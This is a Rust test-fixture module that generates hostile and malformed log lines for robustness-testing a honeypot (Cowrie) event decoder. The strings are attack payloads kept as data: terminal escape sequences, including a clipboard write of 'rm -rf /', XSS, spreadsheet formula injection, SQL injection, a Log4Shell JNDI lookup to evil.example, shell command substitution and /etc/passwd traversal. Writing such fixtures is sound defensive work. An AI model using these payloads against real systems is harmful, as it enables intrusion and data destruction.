//! Strings and lines meant to break whatever reads, stores or shows them.
//!
//! Attackers choose these bytes, so every part of the program must take them: stored exactly, indexed within limits, shown harmlessly.
use std::io::Write as _;

/// Values as they stand inside a JSON string. Some make the line invalid UTF-8 or a string no Unicode library accepts: on purpose.
pub fn values() -> Vec<Box<[u8]>> {
    let mut values: Vec<Box<[u8]>> = [
        // terminals: colours, title, clipboard, hyperlink, device control, 8-bit CSI, bell, backspace, carriage return
        "\u{1b}[31mred\u{1b}[0m\u{1b}[2J\u{1b}[H",
        "\u{1b}]0;owned\u{7}",
        "\u{1b}]52;c;cm0gLXJmIC8=\u{7}",
        "\u{1b}]8;;http://evil.example/\u{1b}\\click\u{1b}]8;;\u{1b}\\",
        "\u{1b}P1;2|payload\u{1b}\\",
        "\u{9b}31m\u{90}q\u{9c}",
        "safe\rroot@host:~# rm -rf /\u{8}\u{8}\u{8}",
        "\u{7f}\u{7f}\u{7f}",
        // lines: new records smuggled into logs, headers, metrics
        "x\n{\"eventid\":\"cowrie.login.success\",\"username\":\"forged\"}",
        "x\r\nSet-Cookie: a=b\r\n\r\n<html>",
        "\"} 1\nhoneyguide_events_total 999999\n#{a=\"",
        "line\u{2028}separator\u{2029}paragraph\u{85}next",
        // text direction, invisible and stacked characters
        "user\u{202e}txt.exe\u{202c}",
        "\u{2066}isolate\u{2069}\u{200f}\u{061c}",
        "ad\u{200b}min\u{feff}\u{2060}\u{ad}",
        "tags\u{e0041}\u{e0042}\u{e007f}",
        "Z\u{300}\u{301}\u{302}\u{303}\u{304}\u{305}\u{306}\u{307}\u{308}\u{309}\u{30a}\u{30b}\u{30c}\u{30d}\u{30e}\u{30f}\u{310}",
        "👩‍👩‍👧‍👦🏴‍☠️\u{1f1fa}\u{1f1f8}ｗｉｄｅ全角",
        // NUL
        "\u{0}",
        "shell\u{0}",
        "before\u{0}after",
        // browsers
        "<script>alert(document.domain)</script>",
        "\"><img src=x onerror=alert(1)>",
        "javascript:alert(1)//</title><svg/onload=alert(1)>",
        "&lt;b&gt;&#x3c;script&#x3e;",
        // spreadsheets
        "=cmd|' /C calc'!A0",
        "+1+1",
        "-2+3",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "\t=1+1",
        "\r=1+1",
        // databases, templates, shells, loggers
        "'; DROP TABLE events; --",
        "' OR '1'='1",
        "\\'; COPY t FROM PROGRAM 'id'; --",
        "${jndi:ldap://evil.example/a}",
        "{{7*7}}${7*7}<%= 7*7 %>",
        "%s%n%x%1$s",
        "$(reboot)`reboot`;reboot|reboot&",
        "../../../../../../etc/passwd",
        "{\"nested\":{\"eventid\":\"cowrie.login.success\",\"deep\":[[[[{\"a\":\"\\\"\"}]]]]}}",
        // our own query language
        "src_ip:* OR username:\"root\" since:0",
        "\"",
        "\\",
        " ",
        "*",
    ]
    .into_iter()
    .map(super::vocabulary::escape)
    .collect();
    let raw: [&[u8]; 7] = [
        b"lone \\ud800 surrogate",
        b"\\udc00\\ud83d",
        b"\\ud83d\\u0041",
        b"latin1 \xe9\xe8\xff",
        b"overlong \xc0\xaf\xe0\x80\xaf",
        b"cut \xe2\x82",
        b"surrogate bytes \xed\xa0\x80",
    ];
    values.extend(raw.map(Box::from));
    values.push(vec![b'A'; 5_000].into());
    values.push("\\u001b[7m".repeat(3_000).into_bytes().into());
    values.push(vec![b'z'; 100_000].into());
    values
}

/// A maker of one whole line (without its newline) from an RFC 3339 time and a session id.
pub type LineMaker = fn(&mut Vec<u8>, time: &str, session: &str);

macro_rules! line {
    ($($format:tt)*) => {
        |out: &mut Vec<u8>, time: &str, session: &str| {
            let _ = write!(out, $($format)*, time = time, session = session);
        }
    };
}

/// Lines wrong or strange as a whole. Many are events all the same: any JSON object is one.
pub const LINES: &[LineMaker] = &[
    // not an object
    |out, _, _| out.extend_from_slice(b"not json at all \x1b[31m"),
    |out, _, _| out.extend_from_slice(b"42"),
    |out, _, _| out.extend_from_slice(b"null"),
    |out, _, _| out.extend_from_slice(b"\"just a string\""),
    |out, _, _| out.extend_from_slice(&[0xff, 0xfe, 0xfd, 0x80, 0x81]),
    |out, _, session| {
        let _ = write!(out, "{{\"eventid\":\"cowrie.login.failed\",\"session\":\"{session}\",\"username\":\"ro");
    },
    |out, _, session| {
        let _ = write!(out, "{{\"eventid\":\"cowrie.login.failed\",\"session\":\"{session}\"}} trailing");
    },
    // empty
    |_, _, _| (),
    |out, _, _| out.extend_from_slice(b"   \t "),
    |out, _, _| out.extend_from_slice(b"{}"),
    // depth: within the limit, beyond it, far beyond any stack
    |out, time, session| nested(out, time, session, 40),
    |out, time, session| nested(out, time, session, 100),
    |out, time, session| nested(out, time, session, 10_000),
    // sizes
    |out, time, session| huge_terms(out, time, session),
    |out, time, session| padded(out, time, session, 900_000),
    |out, time, session| padded(out, time, session, 2 << 20),
    // identity and time
    line!(
        "{{\"eventid\":\"cowrie.session.connect\",\"timestamp\":\"9999-12-31T23:59:59.999999Z\",\"session\":\"{session}\",\
         \"was\":\"{time}\"}}"
    ),
    line!("{{\"eventid\":\"cowrie.session.connect\",\"timestamp\":\"1969-07-20T20:17:40Z\",\"session\":\"{session}\",\"was\":\"{time}\"}}"),
    line!("{{\"eventid\":\"cowrie.session.connect\",\"timestamp\":1774138242.5,\"session\":\"{session}\",\"was\":\"{time}\"}}"),
    line!("{{\"eventid\":\"cowrie.session.connect\",\"timestamp\":\"yesterday\",\"session\":\"{session}\",\"was\":\"{time}\"}}"),
    line!("{{\"eventid\":\"cowrie.session.connect\",\"session\":\"{session}\",\"was\":\"{time}\"}}"),
    line!("{{\"timestamp\":\"{time}\",\"session\":\"{session}\"}}"),
    line!("{{\"eventid\":null,\"timestamp\":\"{time}\",\"session\":{{\"id\":\"{session}\"}},\"src_ip\":[1,2],\"sensor\":false}}"),
    line!("{{\"eventid\":\"\",\"timestamp\":\"{time}\",\"session\":\"{session}\",\"src_ip\":\"\",\"sensor\":\"\",\"username\":\"\"}}"),
    line!("{{\"eventid\":\"cowrie.\\u001b]0;x\\u0007\",\"timestamp\":\"{time}\",\"session\":\"../{session}\",\"sensor\":\"<b>\\u0000\"}}"),
    line!(
        "{{\"eventid\":\"cowrie.login.failed\",\"eventid\":\"cowrie.login.success\",\"timestamp\":\"{time}\",\"session\":\"{session}\",\
         \"session\":\"0\",\"src_ip\":\"192.0.2.1\",\"src_ip\":\"192.0.2.2\"}}"
    ),
    line!(
        "{{\"eventid\":\"cowrie.session.connect\",\"timestamp\":\"{time}\",\"session\":\"{session}\",\"src_ip\":\"not an address\",\
         \"src_port\":\"-1\",\"dst_port\":1e999,\"message\":{{\"a\":[null]}}}}"
    ),
    line!(
        "{{\"eventid\":\"cowrie.command.input\",\"timestamp\":\"{time}\",\"session\":\"{session}\",\"input\":12345678901234567890123,\
         \"message\":[\"a\",[\"b\"]]}}"
    ),
    line!(
        "\u{feff}{{\"eventid\":\"cowrie.command.input\",\"timestamp\":\"{time}\",\"session\":\"{session}\",\"input\":\"after a byte \
         order mark\"}}"
    ),
    line!(
        "{{\"eventid\":\"cowrie.command.input\",\"timestamp\":\"{time}\",\"session\":\"{session}\",\"input\":\"carriage return at the \
         end\"}}\r"
    ),
    line!(
        "\0\0\0\0\0\0\0\0{{\"eventid\":\"cowrie.command.input\",\"timestamp\":\"{time}\",\"session\":\"{session}\",\"input\":\"after a \
         run of NULs\"}}"
    ),
    line!(
        "{{\"event\\u0069d\":\"cowrie.command.input\",\"timestamp\":\"{time}\",\"session\":\"{session}\",\"\\u0069nput\":\"escaped keys\"}}"
    ),
];

/// Every line of [`LINES`] and one with every value of [`values`], ready to be fed to a decoder; last one of 10 MiB.
pub fn lines() -> Vec<Vec<u8>> {
    let (time, session) = ("2026-03-22T00:14:41.244717Z", "c0ffee123456");
    let mut lines = Vec::new();
    for maker in LINES {
        let mut line = Vec::new();
        maker(&mut line, time, session);
        lines.push(line);
    }
    for value in values() {
        let mut line = Vec::new();
        for (key, after) in
            [("{\"eventid\":\"cowrie.login.failed\",\"username\":\"", "\","), ("\"password\":\"", "\","), ("\"message\":\"", "\",")]
        {
            line.extend_from_slice(key.as_bytes());
            line.extend_from_slice(&value);
            line.extend_from_slice(after.as_bytes());
        }
        let _ = write!(
            line,
            "\"sensor\":\"hive\",\"timestamp\":\"{time}\",\"src_ip\":\"192.0.2.1\",\"session\":\"{session}\",\"protocol\":\"ssh\"}}"
        );
        lines.push(line);
    }
    let mut line = Vec::new();
    padded(&mut line, time, session, 10 << 20);
    lines.push(line);
    lines
}

fn nested(out: &mut Vec<u8>, time: &str, session: &str, depth: usize) {
    let _ = write!(out, "{{\"eventid\":\"cowrie.client.var\",\"timestamp\":\"{time}\",\"session\":\"{session}\",\"value\":");
    for level in 0..depth {
        out.extend_from_slice(if level % 2 == 0 { b"[" } else { b"{\"a\":" });
    }
    out.push(b'1');
    for level in (0..depth).rev() {
        out.push(if level % 2 == 0 { b']' } else { b'}' });
    }
    out.push(b'}');
}

fn padded(out: &mut Vec<u8>, time: &str, session: &str, len: usize) {
    let _ = write!(out, "{{\"eventid\":\"cowrie.command.input\",\"timestamp\":\"{time}\",\"session\":\"{session}\",\"input\":\"");
    out.resize(out.len() + len, b'P');
    out.extend_from_slice(b"\"}");
}

/// Sixty-four long values: every searchable field (most of them twice, as a repeated key) and invented fields for the rest.
fn huge_terms(out: &mut Vec<u8>, time: &str, session: &str) {
    use crate::events::Field;
    let _ = write!(out, "{{\"eventid\":\"cowrie.login.failed\",\"timestamp\":\"{time}\",\"session\":\"{session}\"");
    for term in 0..64usize {
        match Field::ALL.get(term % 32) {
            Some(Field::Eventid | Field::Session) | None => {
                let _ = write!(out, ",\"field{term}\":\"");
            }
            Some(field) => {
                let _ = write!(out, ",\"{}\":\"", field.name());
            }
        }
        let _ = write!(out, "{term:02}-");
        out.resize(out.len() + 6_000, b'a' + (term % 26) as u8);
        out.push(b'"');
    }
    out.push(b'}');
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn the_menu_holds_every_danger_named() {
        let lines = lines();
        assert!(lines.iter().any(|line| line.len() > 10 << 20));
        assert!(lines.iter().any(|line| std::str::from_utf8(line).is_err()));
        assert!(lines.iter().any(|line| serde_json::from_slice::<serde_json::Value>(line).is_err() && line.starts_with(b"{")));
        for needle in ["\\u001b]52", "<script>", "\\u0000", "\u{202e}", "\u{2028}", "\\ud800", "=cmd|", "DROP TABLE"] {
            assert!(lines.iter().any(|line| memchr::memmem::find(line, needle.as_bytes()).is_some()), "{needle}");
        }
        assert!(lines.iter().all(|line| memchr::memchr(b'\n', line).is_none()), "a line must not hold a newline");
    }

    #[test]
    fn sixty_four_huge_terms_make_one_valid_event() {
        let mut line = Vec::new();
        huge_terms(&mut line, "2026-03-22T00:14:41.244717Z", "c0ffee123456");
        assert!(line.len() > 64 * 6_000 && line.len() < crate::events::LINE_BYTES_MAX);
        assert!(serde_json::from_slice::<serde::de::IgnoredAny>(&line).is_ok());
    }
}
